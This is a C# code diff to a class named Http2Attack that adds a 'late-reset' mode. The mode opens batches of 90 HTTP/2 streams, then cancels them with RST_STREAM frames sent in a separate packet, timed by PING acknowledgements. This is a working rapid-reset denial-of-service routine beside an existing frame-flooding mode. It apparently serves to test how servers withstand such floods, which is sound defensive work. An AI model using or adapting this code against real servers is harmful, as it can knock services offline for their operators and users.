@@ -13,6 +13,7 @@ internal sealed class Http2Attack(int port, string kind)
 {
     private const int StreamIdsMax = 1_000_000; // Then a new connection, long before the ids are used up.
     private const int BlockFrames = 512;
+    private const int LateStreams = 90; // As many as a server may leave open at a time, and a few less.
 
     private static readonly byte[] s_head = [0x82, 0x86, 0x84, 0x41, 0x01, (byte)'a']; // GET http://a/
 
@@ -50,13 +51,58 @@ internal sealed class Http2Attack(int port, string kind)
     {
         for (int id = 1; id < StreamIdsMax && Stopwatch.GetElapsedTime(start).TotalSeconds < seconds; id += 2 * BlockFrames)
         {
-            byte[] block = [.. Enumerable.Range(0, BlockFrames).SelectMany(i => Frames(id + (2 * i), isFirst: id == 1 && i == 0))];
-            socket.Send(block);
-            _frames += BlockFrames;
-            while (socket.Available > 0 && socket.Receive(_sink) > 0)
+            if (kind == "late-reset")
             {
-                // What it answers is of no interest, but it must not pile up here.
+                SendLateResets(socket, id);
             }
+            else
+            {
+                SendBlock(socket, id);
+            }
+        }
+    }
+
+    private void SendBlock(Socket socket, int id)
+    {
+        socket.Send([.. Enumerable.Range(0, BlockFrames).SelectMany(i => Frames(id + (2 * i), isFirst: id == 1 && i == 0))]);
+        _frames += BlockFrames;
+        while (socket.Available > 0 && socket.Receive(_sink) > 0)
+        {
+            // What it answers is of no interest, but it must not pile up here.
+        }
+    }
+
+    /// <summary>
+    /// Requests, and in a packet of their own their ends, which a receiver that is not busy reads when it has begun the
+    /// requests. The next come when it has answered a PING, or they would be read together with these ends.
+    /// </summary>
+    private void SendLateResets(Socket socket, int id)
+    {
+        IEnumerable<int> ids = Enumerable.Range(0, LateStreams).Select(i => id + (2 * i));
+        byte[] heads = [.. ids.SelectMany(stream => Frame(1, 5, stream, s_head))];
+        byte[] ends = [.. ids.SelectMany(stream => Frame(3, 0, stream, [0, 0, 0, 8])), .. Frame(6, 0, 0, new byte[8])];
+        socket.Send(heads);
+        socket.Send(ends);
+        _frames += LateStreams;
+        byte[] header = new byte[9];
+        do
+        {
+            ReceiveAll(socket, header);
+            ReceiveAll(socket, _sink.AsSpan(0, BinaryPrimitives.ReadInt32BigEndian(header) >> 8));
+        }
+        while (header is not [_, _, _, 6, 1, ..]);
+    }
+
+    private static void ReceiveAll(Socket socket, Span<byte> room)
+    {
+        while (!room.IsEmpty)
+        {
+            int length = socket.Receive(room);
+            if (length == 0)
+            {
+                throw new SocketException((int)SocketError.ConnectionReset);
+            }
+            room = room[length..];
         }
     }
 
